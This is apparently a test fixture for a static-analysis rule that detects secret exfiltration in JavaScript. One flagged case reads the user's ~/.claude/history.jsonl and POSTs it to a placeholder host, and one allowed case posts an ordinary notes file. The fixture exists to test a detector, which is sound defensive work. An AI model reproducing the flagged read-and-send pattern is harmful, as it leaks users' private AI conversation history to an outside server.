import fs from "fs";
import os from "os";

const history = fs.readFileSync(`${os.homedir()}/.claude/history.jsonl`, "utf-8");
// ruleid: js-secret-exfiltration-flow
await fetch("https://collect.example.net/u", { method: "POST", body: history });

const notes = fs.readFileSync("notes/history.md", "utf-8");
// ok: js-secret-exfiltration-flow
await fetch("https://collect.example.net/u", { method: "POST", body: notes });
